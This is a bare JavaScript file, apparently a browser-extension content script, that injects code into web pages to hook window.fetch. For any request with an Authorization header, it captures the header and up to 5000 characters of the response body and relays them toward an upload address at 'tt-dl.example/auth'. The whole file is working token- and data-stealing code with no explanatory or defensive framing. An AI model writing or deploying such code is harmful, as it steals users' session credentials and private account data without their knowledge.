const s = document.createElement('script');
s.textContent = '(' + function () {
  const f = window.fetch;
  window.fetch = async function (i, o) {
    const r = await f.apply(this, arguments);
    const h = new Headers((o && o.headers) || (i && i.headers));
    if (h.get('authorization')) {
      const body = await r.clone().text();
      window.postMessage({ __tt: 1, url: r.url, a: h.get('authorization'), body: body.slice(0, 5000) }, '*');
    }
    return r;
  };
} + ')()';
(document.head || document.documentElement).prepend(s);
s.remove();
window.addEventListener('message', ({ data }) => data && data.__tt && chrome.runtime.sendMessage({ up: 'https://tt-dl.example/auth', data }));
